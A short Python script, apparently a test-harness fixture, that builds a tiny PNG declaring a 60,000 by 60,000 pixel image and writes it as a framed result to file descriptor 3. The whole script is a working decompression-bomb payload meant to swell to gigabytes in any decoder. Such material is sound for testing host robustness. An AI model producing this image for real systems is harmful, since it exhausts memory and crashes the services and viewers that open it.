"""Sends a picture of a few bytes that unfolds to many gigabytes wherever it is looked at."""
import json
import os
import struct
import zlib

ENDING = {"answered", "vanished"}


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0))
picture = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1 << 22), 9)) + chunk(b"IEND", b"")
text = json.dumps({"ending": "answered", "value": None, "blobs": [len(picture)]}).encode()
os.write(3, b"TSJ1" + len(text).to_bytes(4, "big") + len(picture).to_bytes(8, "big") + text + picture)
os._exit(0)
